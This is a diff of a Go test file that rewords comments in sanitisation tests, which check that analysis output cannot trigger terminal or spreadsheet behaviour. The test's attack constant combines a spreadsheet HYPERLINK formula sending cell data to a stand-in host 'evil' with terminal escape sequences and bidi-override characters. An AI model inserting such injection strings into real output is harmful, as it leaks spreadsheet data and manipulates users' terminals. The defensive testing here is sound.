@@ -19,15 +19,15 @@ import (
 	"github.com/cosketch/cosketch/protocol/analysis"
 )
 
-// attack is text that a terminal would act on, that reads backwards, and that a spreadsheet
-// would compute.
+// attack is text that a terminal would act on, that reads backwards, and that a spreadsheet would
+// evaluate.
 const attack = "=HYPERLINK(\"http://evil/?\"&A1)\x1b]0;PWNED\x07\u009b2J\u202e\u2066;=1+1\x00"
 
-// hostile puts the attack before every text of a document but those that Decode wants.
+// hostile puts the attack before every text of a document, except those that Decode requires.
 func hostile(v reflect.Value) {
 	switch v.Kind() {
 	case reflect.String:
-		if v.CanSet() && v.String() != "" { // an Undefined that is empty lets an answer be there
+		if v.CanSet() && v.String() != "" { // an empty Undefined means that there is an answer
 			v.SetString(attack + v.String())
 		}
 	case reflect.Pointer:
@@ -47,7 +47,7 @@ func hostile(v reflect.Value) {
 	}
 }
 
-// results are stored documents of all kinds of analyses.
+// results are stored documents with all kinds of analyses.
 func results(t *testing.T) (all []analysis.Result) {
 	t.Helper()
 	for _, pattern := range []string{"testdata/*.json", "../../protocol/analysis/testdata/*.json"} {
@@ -69,13 +69,13 @@ func results(t *testing.T) (all []analysis.Result) {
 	return all
 }
 
-// unshown finds a character that no reader may be given.
+// unshown finds a character that must not be shown to readers.
 func unshown(text string) (at int) {
 	return strings.IndexFunc(text, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) })
 }
 
-// Nothing that others wrote acts on a terminal, is hidden or reordered there, or is computed
-// by a spreadsheet, whatever kind of answer it stands in.
+// Text written by others, in any kind of answer, is not acted on, hidden or reordered by a
+// terminal, or evaluated by a spreadsheet.
 func TestTextOfOthersIsHarmless(t *testing.T) {
 	sections := map[string]bool{}
 	for _, r := range results(t) {
@@ -117,7 +117,7 @@ func TestTextOfOthersIsHarmless(t *testing.T) {
 	}
 }
 
-// harmlessFile wants a text file without what acts on a terminal or is computed.
+// harmlessFile checks that a text file has nothing that is acted on or evaluated.
 func harmlessFile(t *testing.T, f file) {
 	t.Helper()
 	if at := unshown(f.name); at >= 0 || strings.ContainsAny(f.name, `/\=`) {
@@ -143,7 +143,7 @@ func harmlessFile(t *testing.T, f file) {
 	}
 }
 
-// lda has every text that is printed of one.
+// lda is a result with every text that is printed of an lda.
 func lda() analysis.Result {
 	half := 0.5
 	n := analysis.Number{Estimate: &half, StandardError: &half, Low: &half, High: &half}
@@ -169,7 +169,7 @@ func TestTextOfDiscriminantsIsHarmless(t *testing.T) {
 	}
 }
 
-// What is said beside data is harmless, too: errors, talk, findings and logs.
+// Other output is harmless too: errors, messages, findings and logs.
 func TestTalkOfOthersIsHarmless(t *testing.T) {
 	var out, talk bytes.Buffer
 	c := &Console{In: strings.NewReader("yes\n"), Out: &out, Err: &talk}
